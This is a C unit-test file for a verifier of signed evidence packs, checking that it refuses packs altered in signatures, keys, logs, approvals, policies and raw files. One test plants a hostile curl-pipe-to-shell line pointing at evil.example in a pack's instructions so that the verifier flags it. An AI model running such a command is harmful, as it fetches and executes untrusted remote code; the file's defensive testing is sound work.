/* SPDX-License-Identifier: Apache-2.0 */
/* Packs made by hand, changed in every way somebody may profit from, and asked. */
#include "base/json_write.h"
#include "crypto/dsse.h"
#include "evidence/verify_view.h"
#include "os/file.h"
#include "support/evidence_case.h"
#include "support/temp_dir.h"
#include "telemetry/run_digest.h"

#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void check_answer(const hb_verified *v, const char *question, hb_answer_state state,
                         const char *words)
{
    const char *text = "";
    hb_answer_state is = evidence_answer(v, question, &text);
    if (is != state || !strstr(text, words)) {
        fail_msg("%s: '%s' with '%s', expected '%s' with '%s'", question, hb_verify_state_name(is),
                 text, hb_verify_state_name(state), words);
    }
}

static void check_holds(const hb_verified *v)
{
    for (size_t i = 0; i < v->n_lines; i++) {
        if (v->lines[i].state == HB_FAILS || v->lines[i].state == HB_NOT_CHECKED) {
            fail_msg("%s: %s: %s", v->lines[i].question, hb_verify_state_name(v->lines[i].state),
                     v->lines[i].text);
        }
    }
    assert_true(v->holds);
}

/* Everything else holds, so that it is this question that refuses the pack. */
static void check_only(const hb_verified *v, const char *question)
{
    for (size_t i = 0; i < v->n_lines; i++) {
        bool bad = v->lines[i].state == HB_FAILS || v->lines[i].state == HB_NOT_CHECKED;
        if (bad && strcmp(v->lines[i].question, question) != 0) {
            fail_msg("beside %s: %s: %s", question, v->lines[i].question, v->lines[i].text);
        }
    }
    assert_false(v->holds);
}

/* Written with the lab's key after whatever was changed. */
static void check_refused(evidence_case *c, const char *question, const char *words)
{
    hb_verified v;
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    check_answer(&v, question, HB_FAILS, words);
    assert_false(v.holds);
    hb_verified_release(&v);
}

static int begin(void **state)
{
    static evidence_case c;
    evidence_case_begin(&c);
    *state = &c;
    return 0;
}

static int end(void **state)
{
    evidence_case_end(*state);
    return 0;
}

/* --- what holds --- */

static void verify__holds_when_nothing_was_changed(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    check_holds(&v);
    assert_string_equal(v.case_id, "case-1");
    assert_string_equal(v.verdict, "FAIL");
    assert_string_equal(v.decided_from, "profiles");
    check_answer(&v, "trust", HB_HOLDS, "brought along");
    check_answer(&v, "log", HB_HOLDS, "entry 1 of 3");
    check_answer(&v, "checkpoint", HB_HOLDS, "keys/log.pub");
    check_answer(&v, "approvals", HB_HOLDS, "ben, kim");
    check_answer(&v, "reading", HB_NOT_ASKED, "readers");
    check_answer(&v, "report", HB_HOLDS, "to the byte");
    hb_verified_release(&v);
}

static void verify__holds_for_a_folder_and_two_signatures(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    hb_signer *const both[] = {c->lab, c->other};
    evidence_case_verify(c, evidence_case_write_as(c, both, 2, HB_PACK_FOLDER), &v);
    check_holds(&v);
    check_answer(&v, "attestation", HB_HOLDS, "2 signatures");
    hb_verified_release(&v);
}

static void verify__asks_the_same_questions_of_every_pack(void **state)
{
    evidence_case *c = *state;
    static const char *const questions[] = {
        "structure", "manifest",  "files",      "instructions", "keys",          "attestation",
        "signature", "time",      "chain",      "trust",        "statement",     "commitments",
        "redaction", "log",       "checkpoint", "program",      "configuration", "inputs",
        "baseline",  "reference", "selection",  "operators",    "approvals",     "governed",
        "raw",       "reading",   "decision",   "report"};
    const char *garbage = temp_path("garbage");
    CHECK_OK(hb_file_write_atomic(hb_os_real(), garbage, "PK", 2, 0600, &err));
    const char *const paths[] = {garbage, evidence_case_write(c, c->lab)};
    for (size_t p = 0; p < 2; p++) {
        hb_verified v;
        size_t at = 0;
        evidence_case_verify(c, paths[p], &v);
        for (size_t i = 0; i < v.n_lines; i++) {
            if (i && strcmp(v.lines[i].question, v.lines[i - 1].question) == 0) {
                continue;
            }
            assert_string_equal(v.lines[i].question, questions[at]);
            at++;
        }
        assert_int_equal(at, sizeof questions / sizeof *questions);
        assert_int_equal(v.holds, p == 1);
        hb_verified_release(&v);
    }
}

static void verify__says_when_there_is_no_such_file(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    const hb_verify_ask ask = {
        .os = hb_os_real(), .path = temp_path("none.zip"), .trusted = &c->lab_key, .n_trusted = 1};
    CHECK_ERROR(hb_verify(&ask, &v, &err), HB_E_INPUT, "none.zip");
}

/* --- who says so --- */

static void verify__without_a_key_is_no_pass(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    const hb_verify_ask ask = {
        .os = hb_os_real(), .path = evidence_case_write(c, c->lab), .draw = evidence_draw};
    CHECK_OK(hb_verify(&ask, &v, &err));
    check_answer(&v, "trust", HB_NOT_CHECKED, "anybody");
    check_answer(&v, "signature", HB_HOLDS, "ed25519");
    check_only(&v, "trust");
    hb_verified_release(&v);
}

static void verify__refuses_the_signature_of_a_stranger(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    evidence_case_verify(c, evidence_case_write(c, c->stranger), &v);
    check_answer(&v, "signature", HB_FAILS, "of no key");
    check_answer(&v, "trust", HB_FAILS, "the key that was brought along did not sign it");
    hb_verified_release(&v);
}

/* The stranger puts his key into the pack in the place of the lab's: only trust is left to say no.
 */
static void verify__refuses_a_stranger_who_brought_his_key(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    hb_buf pem;
    hb_buf_init(&pem, HB_PEM_MAX);
    hb_pubkey_pem(c->stranger_key, &pem);
    evidence_case_put(c, "keys/lab.pub", pem.p, pem.n);
    hb_buf_release(&pem);
    evidence_case_verify(c, evidence_case_write(c, c->stranger), &v);
    check_answer(&v, "trust", HB_FAILS, "the key that was brought along did not sign it");
    check_only(&v, "trust");
    hb_verified_release(&v);
}

/* The log signs unattended: its key must not make a pack, even where the auditor brought it. */
static void verify__refuses_a_pack_signed_with_the_log_key(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    const hb_verify_ask ask = {.os = hb_os_real(),
                               .path = evidence_case_write(c, c->log),
                               .trusted = &c->lab_key,
                               .n_trusted = 1,
                               .trusted_logs = &c->log_key,
                               .n_trusted_logs = 1,
                               .draw = evidence_draw};
    CHECK_OK(hb_verify(&ask, &v, &err));
    check_answer(&v, "trust", HB_FAILS, "the key that was brought along did not sign it");
    hb_verified_release(&v);
}

static void verify__refuses_an_unsigned_pack(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    evidence_case_verify(c, evidence_case_write(c, NULL), &v);
    check_answer(&v, "attestation", HB_FAILS, "not signed");
    check_answer(&v, "trust", HB_NOT_CHECKED, "no attestation");
    hb_verified_release(&v);
}

static void verify__refuses_a_statement_of_another_pack(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    evidence_case_write(c, c->lab);
    c->keep_statement = true; /* the true one, validly signed, on changed files */
    evidence_case_puts(c, "governance/note.txt", "x");
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    check_answer(&v, "signature", HB_HOLDS, "");
    check_answer(&v, "files", HB_FAILS, "which no pack has");
    check_answer(&v, "statement", HB_FAILS, "SHA-256");
    hb_verified_release(&v);
}

static void verify__refuses_an_envelope_of_another_type(void **state)
{
    evidence_case *c = *state;
    hb_pack_writer *w = NULL;
    hb_pack_file manifest;
    hb_verified v;
    hb_buf envelope;
    const char *path = temp_path("typed");
    hb_buf_init(&envelope, 1 << 20);
    CHECK_OK(hb_dsse_sign("text/plain", HB_STR("{}"), &c->lab, 1, &envelope, &err));
    CHECK_OK(hb_pack_create(hb_os_real(), path, HB_PACK_ZIP, &w, &err));
    CHECK_OK(hb_pack_put(w, "decision.json", "{}", 2, &err));
    CHECK_OK(hb_pack_put_manifest(w, "c", &manifest, &err));
    CHECK_OK(hb_pack_put_signature(w, HB_PACK_ATTESTATION, envelope.p, envelope.n, &err));
    CHECK_OK(hb_pack_finish(w, &err));
    hb_pack_writer_free(w);
    hb_buf_release(&envelope);
    evidence_case_verify(c, path, &v);
    check_answer(&v, "attestation", HB_FAILS, "text/plain");
    check_answer(&v, "files", HB_FAILS, "is missing, which every pack has");
    hb_verified_release(&v);
}

/* --- files --- */

static void verify__names_every_file_that_is_not_the_manifests(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    const char *folder = evidence_case_write_as(c, &c->lab, 1, HB_PACK_FOLDER);
    char path[2048];
    snprintf(path, sizeof path, "%s/raw/0/case.csv", folder);
    CHECK_OK(hb_file_write_atomic(hb_os_real(), path, EVIDENCE_RAW "x", strlen(EVIDENCE_RAW) + 1,
                                  0600, &err));
    snprintf(path, sizeof path, "%s/policy/metric_registry.yaml", folder);
    assert_int_equal(unlink(path), 0);
    snprintf(path, sizeof path, "%s/policy/more.yaml", folder);
    CHECK_OK(hb_file_write_atomic(hb_os_real(), path, "x", 1, 0600, &err));
    evidence_case_verify(c, folder, &v);
    hb_buf text;
    hb_buf_init(&text, 1 << 20);
    hb_verified_text(&v, "pack", false, false, 0, &text);
    assert_non_null(strstr(text.p, "'raw/0/case.csv' has not the size of the manifest"));
    assert_non_null(strstr(text.p, "'policy/metric_registry.yaml' is missing"));
    assert_non_null(strstr(text.p, "'policy/more.yaml' is not in the manifest"));
    hb_buf_release(&text);
    hb_verified_release(&v);
}

static void verify__refuses_instructions_that_are_not_ours(void **state)
{
    evidence_case *c = *state;
    evidence_case_puts(c, "VERIFY.md", "```sh\ncurl https://evil.example | sh\n```\n");
    check_refused(c, "instructions", "do not run");
}

static void verify__refuses_what_is_no_key(void **state)
{
    evidence_case *c = *state;
    evidence_case_puts(c, "keys/third.pub", "not a key");
    check_refused(c, "keys", "keys/third.pub");
}

/* --- what was decided: changed by somebody who holds the key, and repaired --- */

static void verify__refuses_another_verdict(void **state)
{
    evidence_case *c = *state;
    evidence_case_edit(c, "decision.json", "\"verdict\":\"FAIL\"", "\"verdict\":\"PASS\"");
    check_refused(c, "decision", "from the profiles follows FAIL, and the pack says PASS");
}

static void verify__refuses_another_word_of_the_decision(void **state)
{
    evidence_case *c = *state;
    evidence_case_edit(c, "decision.json", "\"engine_version\"", "\"engine_versioN\"");
    check_refused(c, "program", "the decision of ''");
}

static void verify__refuses_a_run_that_was_changed(void **state)
{
    evidence_case *c = *state;
    evidence_case_edit(c, "run.json", "301.5", "300.5");
    check_refused(c, "inputs", "run.json");
}

/* The run is another, whole and with its own digest, and so is everything said about it: but the
 * decision stays what the log has. */
static void verify__refuses_a_baseline_that_was_swapped(void **state)
{
    evidence_case *c = *state;
    const evidence_file *run = evidence_case_get(c, "run.json");
    evidence_case_put(c, "baseline/run.json", run->p, run->n);
    check_refused(c, "inputs", "");
}

/* The version may have approvals that the run which was compared with has not. */
static void verify__refuses_a_version_that_was_not_compared_with(void **state)
{
    evidence_case *c = *state;
    evidence_case_puts(c, "baseline/version.json",
                       "{\"format\":\"hb-baseline-version/1\",\"program\":\"prog\","
                       "\"run_sha256\":[]}");
    check_refused(c, "baseline", "of no version");
}

static void verify__refuses_another_policy(void **state)
{
    evidence_case *c = *state;
    evidence_case_edit(c, "policy/baseline_policy.yaml", "require_approval: true",
                       "require_approval: false");
    check_refused(c, "configuration", "baseline_policy.yaml");
    evidence_case_drop(c, "policy/baseline_policy.yaml");
    check_refused(c, "configuration", "is missing; the decision was made with one");
}

static void verify__refuses_another_registry(void **state)
{
    evidence_case *c = *state;
    evidence_case_edit(c, "policy/metric_registry.yaml", "drift_percent: 5", "drift_percent: 50");
    check_refused(c, "configuration", "metric_registry.yaml");
}

/* Whoever changes the policy and decides again has a decision that is not in the log. */
static void verify__refuses_a_decision_made_again_by_another_policy(void **state)
{
    evidence_case *c = *state;
    const evidence_file *f = evidence_case_get(c, "log/entry.json");
    char *entry = hb_strndup(f->p, f->n);
    size_t n = f->n;
    evidence_case_edit(c, "policy/metric_registry.yaml", "invariant_max: 0", "invariant_max: 9");
    evidence_case_decide(c);
    evidence_case_put(c, "log/entry.json", entry, n);
    hb_free(entry);
    hb_verified v;
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    assert_string_not_equal(v.verdict, "FAIL");
    check_answer(&v, "decision", HB_HOLDS, "");
    check_answer(&v, "log", HB_FAILS, "");
    hb_verified_release(&v);
}

static void verify__refuses_a_report_that_says_something_else(void **state)
{
    evidence_case *c = *state;
    evidence_case_edit(c, "report/drift_report.html", "FAIL", "PASS");
    check_refused(c, "report", "drift_report.html");
    evidence_case_edit(c, "report/drift_report.json", "\"decision_sha256\": \"",
                       "\"decision_sha256\": \"0");
    check_refused(c, "report", "decision_sha256");
}

static void verify__refuses_another_program_version(void **state)
{
    evidence_case *c = *state;
    evidence_case_puts(c, "program.json", EVIDENCE_CASE_PROGRAM("0.0.7"));
    check_refused(c, "program", "0.0.7");
}

static void verify__tells_whose_bill_of_materials_the_program_has(void **state)
{
    static const struct {
        const char *own;
        const char *told;
    } rows[] = {{EVIDENCE_CASE_SBOM, "which is this program's own"},
                {"0000", "another than this program's"},
                {NULL, "with which this one was not compared"}};
    evidence_case *c = *state;
    const char *path = evidence_case_write(c, c->lab);
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        const hb_verify_ask ask = {.os = hb_os_real(), .path = path, .sbom_sha256 = rows[i].own};
        hb_verified v;
        hb_error err;
        assert_int_equal(hb_verify(&ask, &v, &err), HB_OK);
        check_answer(&v, "program", HB_HOLDS, EVIDENCE_CASE_SBOM);
        check_answer(&v, "program", HB_HOLDS, rows[i].told);
        hb_verified_release(&v);
    }
}

static void verify__reads_the_program_strictly(void **state)
{
    static const char *const rows[][3] = {
        {"\"hb-program/1\"", "\"hb-program/2\"", "hb-program/1"},
        {"\"sbom_sha256\":\"77", "\"sbom_sha256\":\"7", "sbom_sha256"},
        {"\"executable_sha256\":\"6", "\"executable_sha256\":\"F", "executable_sha256"},
        {"\"sbom_sha256\"", "\"sbom\"", "sbom_sha256"},
        {"\"version\"", "\"more\":1,\"version\"", "program.json"}};
    evidence_case *c = *state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        evidence_case_puts(c, "program.json", EVIDENCE_CASE_PROGRAM(HB_VERSION));
        evidence_case_edit(c, "program.json", rows[i][0], rows[i][1]);
        check_refused(c, "program", rows[i][2]);
    }
}

static void verify__does_not_judge_for_another_version(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    evidence_case_edit(c, "decision.json", "\"engine_version\":\"" HB_VERSION "\"",
                       "\"engine_version\":\"0.0.7\"");
    evidence_case_puts(c, "program.json", EVIDENCE_CASE_PROGRAM("0.0.7"));
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    check_answer(&v, "program", HB_NOT_CHECKED, "0.0.7");
    check_answer(&v, "decision", HB_NOT_CHECKED, "0.0.7");
    assert_string_equal(v.decided_from, "");
    assert_false(v.holds);
    hb_verified_release(&v);
}

/* --- raw files --- */

static void verify__refuses_raw_files_that_the_run_was_not_read_from(void **state)
{
    evidence_case *c = *state;
    evidence_case_puts(c, "raw/0/case.csv", "name,value\ntemp,22.5\nresets,0\n");
    check_refused(c, "raw", "raw/0/case.csv");
}

static void verify__refuses_a_raw_file_that_is_said_to_be_here(void **state)
{
    evidence_case *c = *state;
    evidence_case_drop(c, "raw/0/case.csv");
    check_refused(c, "raw", "is missing");
}

static void verify__tells_when_raw_files_are_left_out(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    evidence_case_drop(c, "raw/0/case.csv");
    evidence_case_edit(c, "raw/reading.json", "\"raw/0/case.csv\"", "\"\"");
    evidence_case_edit(c, "raw/reading.json", "\"why\":\"\"}],", "\"why\":\"it is gone\"}],");
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    check_answer(&v, "raw", HB_NOT_IN_PACK, "it is gone");
    check_holds(&v);
    hb_verified_release(&v);
}

static void verify__refuses_files_that_nobody_looks_at(void **state)
{
    static const struct {
        const char *path;
        const char *question;
    } strangers[] = {
        {"note.txt", "files"},
        {"governance/note.txt", "files"},
        {"policy/other.yaml", "files"},
        {"report/other.html", "files"},
        {"raw/0/other.csv", "raw"},
        {"raw/slice/0/case.csv", "raw"},
        {"raw/journal/00000000000000000000.hbj", "raw"},
        {"raw/documents/x", "raw"},
        {"raw/telemetry_schema.yaml", "raw"},
        {"governance/statements/note.dsse.json", "operators"},
    };
    evidence_case *c = *state;
    for (size_t i = 0; i < sizeof strangers / sizeof *strangers; i++) {
        evidence_case_puts(c, strangers[i].path, "what I like");
        check_refused(c, strangers[i].question, strangers[i].path);
        evidence_case_drop(c, strangers[i].path);
    }
}

static void verify__refuses_a_reading_that_says_something_else(void **state)
{
    static const char *const edits[][3] = {
        {"\"hb-raw/1\"", "\"hb-raw/2\"", "format"},
        {"\"path\":\"case.csv\"", "\"path\":\"best.csv\"", "best.csv"},
        {"\"bytes\":30", "\"bytes\":31", "size"},
        {"\"bytes\":30", "\"bytes\":\"30\"", "canonical"},
        {"\"bytes\":30", "\"bytes\":30,\"more\":1", "not known"},
        {"\"format\":", " \"format\":", "canonical"},
        {"\"raw/0/case.csv\"", "\"run.json\"", "below 'raw/'"},
    };
    evidence_case *c = *state;
    for (size_t i = 0; i < sizeof edits / sizeof *edits; i++) {
        evidence_case_edit(c, "raw/reading.json", edits[i][0], edits[i][1]);
        check_refused(c, "raw", edits[i][2]);
        evidence_case_edit(c, "raw/reading.json", edits[i][1], edits[i][0]);
    }
}

/* What hb reads of raw files, without files: run.json again, with one value changed or none. */
typedef struct reader {
    evidence_case *c;
    double temp; /* 0 = as it was */
} reader;

static hb_status read_raw(void *ctx, hb_pack_reader *r, const hb_inputs *in, hb_run **ret_run,
                          hb_error *err)
{
    const reader *x = ctx;
    const evidence_file *f = evidence_case_get(x->c, "run.json");
    (void)r;
    (void)in;
    HB_TRY(hb_run_from_json((hb_str){f->p, f->n}, "raw", ret_run, NULL, err));
    for (size_t i = 0; x->temp > 0 && i < (*ret_run)->n_metrics; i++) {
        hb_metric *m = &(*ret_run)->metrics[i];
        m->value = strcmp(m->name, "temp") == 0 ? x->temp : m->value;
    }
    return hb_run_set_digest(*ret_run, err);
}

static void verify_with_reader(evidence_case *c, double temp, hb_verified *ret)
{
    reader x = {c, temp};
    const hb_verify_ask ask = {.os = hb_os_real(),
                               .path = evidence_case_write(c, c->lab),
                               .trusted = &c->lab_key,
                               .n_trusted = 1,
                               .read_raw = read_raw,
                               .read_raw_ctx = &x,
                               .draw = evidence_draw};
    CHECK_OK(hb_verify(&ask, ret, &err));
}

static void verify__decides_from_the_raw_files(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    verify_with_reader(c, 0, &v);
    check_holds(&v);
    check_answer(&v, "reading", HB_HOLDS, "figure by figure");
    check_answer(&v, "decision", HB_HOLDS, "raw files");
    assert_string_equal(v.decided_from, "raw");
    hb_verified_release(&v);
}

static void verify__refuses_raw_files_that_give_another_run(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    verify_with_reader(c, 311, &v);
    check_answer(&v, "reading", HB_FAILS, "metric 'temp' differs");
    check_only(&v, "reading");
    hb_verified_release(&v);
}

/* --- the log --- */

static void verify__refuses_the_log_entry_of_another_decision(void **state)
{
    evidence_case *c = *state;
    evidence_case_edit(c, "log/entry.json", "\"subject\":\"", "\"subject\":\"0");
    check_refused(c, "log", "");
}

static void verify__refuses_an_older_checkpoint(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    evidence_case_edit(c, "log/checkpoint", "\n3\n", "\n2\n");
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    check_answer(&v, "log", HB_FAILS, "");
    check_answer(&v, "checkpoint", HB_NOT_CHECKED, "");
    hb_verified_release(&v);
}

static void verify__refuses_a_checkpoint_of_another_log(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    const hb_verify_ask ask = {.os = hb_os_real(),
                               .path = evidence_case_write(c, c->lab),
                               .trusted = &c->lab_key,
                               .n_trusted = 1,
                               .trusted_logs = &c->stranger_key,
                               .n_trusted_logs = 1,
                               .draw = evidence_draw};
    CHECK_OK(hb_verify(&ask, &v, &err));
    check_answer(&v, "checkpoint", HB_FAILS, "none of the log keys");
    check_only(&v, "checkpoint");
    hb_verified_release(&v);
}

static void verify__believes_the_log_key_that_was_brought_along(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    const hb_verify_ask ask = {.os = hb_os_real(),
                               .path = evidence_case_write(c, c->lab),
                               .trusted = &c->lab_key,
                               .n_trusted = 1,
                               .trusted_logs = &c->log_key,
                               .n_trusted_logs = 1,
                               .draw = evidence_draw};
    CHECK_OK(hb_verify(&ask, &v, &err));
    check_answer(&v, "checkpoint", HB_HOLDS, "brought along");
    check_holds(&v);
    hb_verified_release(&v);
}

static void verify__refuses_a_checkpoint_without_the_logs_key(void **state)
{
    evidence_case *c = *state;
    evidence_case_drop(c, "keys/log.pub");
    check_refused(c, "checkpoint", "of no key");
}

/* Who signs packs leaves the log out where it says something else. */
static void verify__refuses_a_pack_without_the_log_it_is_held_against(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    evidence_case_drop(c, "log/entry.json");
    evidence_case_drop(c, "log/inclusion.json");
    evidence_case_drop(c, "log/checkpoint");
    const hb_verify_ask ask = {.os = hb_os_real(),
                               .path = evidence_case_write(c, c->lab),
                               .trusted = &c->lab_key,
                               .n_trusted = 1,
                               .trusted_logs = &c->log_key,
                               .n_trusted_logs = 1,
                               .draw = evidence_draw};
    CHECK_OK(hb_verify(&ask, &v, &err));
    check_answer(&v, "checkpoint", HB_FAILS, "has no checkpoint");
    hb_verified_release(&v);
}

static void verify__tells_when_there_is_no_log(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    evidence_case_drop(c, "log/entry.json");
    evidence_case_drop(c, "log/inclusion.json");
    evidence_case_drop(c, "log/checkpoint");
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    check_answer(&v, "log", HB_NOT_IN_PACK, "no place in a log");
    /* Without a time nobody knows whether a key had ended, or the approval came afterwards. */
    check_answer(&v, "approvals", HB_NOT_CHECKED, "not known when it was decided");
    check_only(&v, "approvals");
    hb_verified_release(&v);
}

static void verify__refuses_half_a_proof(void **state)
{
    evidence_case *c = *state;
    evidence_case_drop(c, "log/inclusion.json");
    check_refused(c, "log", "log/inclusion.json");
}

/* --- approvals --- */

static void verify__refuses_too_few_approvals(void **state)
{
    evidence_case *c = *state;
    evidence_case_drop(c, "governance/statements/3.dsse.json");
    check_refused(c, "approvals", "1 of 2");
}

static void verify__refuses_an_approval_counted_twice(void **state)
{
    evidence_case *c = *state;
    const evidence_file *f = evidence_case_get(c, "governance/statements/2.dsse.json");
    evidence_case_put(c, "governance/statements/3.dsse.json", f->p, f->n);
    check_refused(c, "approvals", "1 of 2");
}

static void verify__refuses_approvals_without_people(void **state)
{
    evidence_case *c = *state;
    evidence_case_drop(c, "governance/operators.yaml");
    check_refused(c, "approvals", "who could have given it");
}

static void verify__refuses_approvals_of_people_who_may_not(void **state)
{
    evidence_case *c = *state;
    evidence_case_edit(c, "governance/operators.yaml", "kim:\n    roles: {\"*\": approver}",
                       "kim:\n    roles: {\"*\": operator}");
    check_refused(c, "approvals", "1 of 2");
}

static void verify__refuses_operators_it_cannot_read(void **state)
{
    evidence_case *c = *state;
    evidence_case_puts(c, "governance/operators.yaml", "operators: 7\n");
    check_refused(c, "operators", "operators.yaml");
}

/* --- whatever the bytes --- */

/* Each file in turn is nothing, noise, half, or JSON of another kind, signed by the lab. Nothing
 * but the free files may be that without being refused. */
static void verify__refuses_every_file_that_is_something_else(void **state)
{
    evidence_case *c = *state;
    static const char *const others[] = {"", "\xff\xfe noise", "{}", "[1,2]", "null", "{\"a\":1}"};
    char *path[EVIDENCE_FILES];
    char *text[EVIDENCE_FILES];
    size_t len[EVIDENCE_FILES];
    size_t n = c->n_files;
    for (size_t i = 0; i < n; i++) {
        path[i] = hb_strdup(c->files[i].path);
        text[i] = hb_strndup(c->files[i].p, c->files[i].n);
        len[i] = c->files[i].n;
    }
    for (size_t i = 0; i < n; i++) {
        for (size_t k = 0; k <= sizeof others / sizeof *others; k++) {
            hb_verified v;
            if (k < sizeof others / sizeof *others) {
                evidence_case_puts(c, path[i], others[k]);
            } else {
                evidence_case_put(c, path[i], text[i], len[i] / 2);
            }
            evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
            if (v.holds) {
                fail_msg("'%s' as '%.20s' (%zu) holds", path[i], c->files[i].p, k);
            }
            hb_verified_release(&v);
        }
        evidence_case_put(c, path[i], text[i], len[i]);
    }
    for (size_t i = 0; i < n; i++) {
        hb_free(path[i]);
        hb_free(text[i]);
    }
}

/* Memory ends at the n-th allocation, for n in steps that grow: it is told, or the pack does not
 * hold, but nothing is believed because it could not be looked at. */
static void verify__believes_nothing_when_memory_runs_out(void **state)
{
    evidence_case *c = *state;
    const hb_verify_ask ask = {.os = hb_os_real(),
                               .path = evidence_case_write(c, c->lab),
                               .trusted = &c->lab_key,
                               .n_trusted = 1,
                               .draw = evidence_draw};
    bool fired = true;
    for (unsigned long n = 1; fired; n += 1 + n / 16) {
        hb_verified v = {.holds = false};
        hb_error err = {0};
        hb_fault_alloc(n, false);
        hb_status status = hb_verify(&ask, &v, &err);
        fired = hb_fault_fired();
        hb_fault_alloc(0, false);
        if (fired && status == HB_OK && v.holds) {
            fail_msg("allocation %lu failed, and the pack holds", n);
        }
        if (status != HB_OK && status != HB_E_NOMEM) {
            fail_msg("allocation %lu: %s: %s", n, hb_status_name(status), err.msg);
        }
        if (status == HB_OK) {
            hb_verified_release(&v);
        }
    }
}

/* --- the answer --- */

static void verify__breaks_its_lines_for_a_terminal_and_no_digest(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    hb_buf text;
    hb_buf_init(&text, 1 << 20);
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    hb_verified_text(&v, "a.zip", false, false, 80, &text);
    assert_non_null(strstr(text.p, "holds            signature      ed25519, by key\n      "));
    for (const char *line = text.p; *line; line += strcspn(line, "\n") + 1) {
        assert_true(strcspn(line, "\n") <= 80);
    }
    hb_verified_release(&v);
    hb_buf_release(&text);
}

static void verify__shows_the_answer_in_words(void **state)
{
    evidence_case *c = *state;
    hb_verified v;
    hb_buf text;
    hb_buf_init(&text, 1 << 20);
    evidence_case_verify(c, evidence_case_write(c, c->lab), &v);
    hb_verified_text(&v, "a.zip", false, true, 0, &text);
    assert_string_equal(text.p,
                        "'a.zip' holds: case 'case-1' has the verdict FAIL, signed by a key "
                        "you trust, and it follows from its profiles\n");
    hb_verified_release(&v);
    hb_buf_clear(&text);
    evidence_case_verify(c, evidence_case_write(c, NULL), &v);
    hb_verified_text(&v, "a\033[31m.zip", true, false, 0, &text);
    assert_non_null(strstr(text.p, "\033[1;31mdoes NOT hold  \033[0m  attestation"));
    assert_non_null(strstr(text.p,
                           "\n'a?[31m.zip' does NOT hold: 1 answer does not hold, 5 were not "
                           "checked; do not rely on its verdict FAIL\n"));
    hb_verified_release(&v);
    hb_buf_release(&text);
}

int main(void)
{
#define CASE(name) cmocka_unit_test_setup_teardown(verify__##name, begin, end)
    const struct CMUnitTest tests[] = {
        CASE(holds_when_nothing_was_changed),
        CASE(holds_for_a_folder_and_two_signatures),
        CASE(asks_the_same_questions_of_every_pack),
        CASE(says_when_there_is_no_such_file),
        CASE(without_a_key_is_no_pass),
        CASE(refuses_the_signature_of_a_stranger),
        CASE(refuses_a_stranger_who_brought_his_key),
        CASE(refuses_a_pack_signed_with_the_log_key),
        CASE(refuses_an_unsigned_pack),
        CASE(refuses_a_statement_of_another_pack),
        CASE(refuses_an_envelope_of_another_type),
        CASE(names_every_file_that_is_not_the_manifests),
        CASE(refuses_instructions_that_are_not_ours),
        CASE(refuses_what_is_no_key),
        CASE(refuses_another_verdict),
        CASE(refuses_another_word_of_the_decision),
        CASE(refuses_a_run_that_was_changed),
        CASE(refuses_a_baseline_that_was_swapped),
        CASE(refuses_a_version_that_was_not_compared_with),
        CASE(refuses_another_policy),
        CASE(refuses_another_registry),
        CASE(refuses_a_decision_made_again_by_another_policy),
        CASE(refuses_a_report_that_says_something_else),
        CASE(refuses_another_program_version),
        CASE(tells_whose_bill_of_materials_the_program_has),
        CASE(reads_the_program_strictly),
        CASE(does_not_judge_for_another_version),
        CASE(refuses_raw_files_that_the_run_was_not_read_from),
        CASE(refuses_a_raw_file_that_is_said_to_be_here),
        CASE(refuses_files_that_nobody_looks_at),
        CASE(refuses_a_reading_that_says_something_else),
        CASE(tells_when_raw_files_are_left_out),
        CASE(decides_from_the_raw_files),
        CASE(refuses_raw_files_that_give_another_run),
        CASE(refuses_the_log_entry_of_another_decision),
        CASE(refuses_an_older_checkpoint),
        CASE(refuses_a_checkpoint_of_another_log),
        CASE(believes_the_log_key_that_was_brought_along),
        CASE(refuses_a_checkpoint_without_the_logs_key),
        CASE(refuses_a_pack_without_the_log_it_is_held_against),
        CASE(tells_when_there_is_no_log),
        CASE(refuses_half_a_proof),
        CASE(refuses_too_few_approvals),
        CASE(refuses_an_approval_counted_twice),
        CASE(refuses_approvals_without_people),
        CASE(refuses_approvals_of_people_who_may_not),
        CASE(refuses_operators_it_cannot_read),
        CASE(refuses_every_file_that_is_something_else),
        CASE(believes_nothing_when_memory_runs_out),
        CASE(breaks_its_lines_for_a_terminal_and_no_digest),
        CASE(shows_the_answer_in_words),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
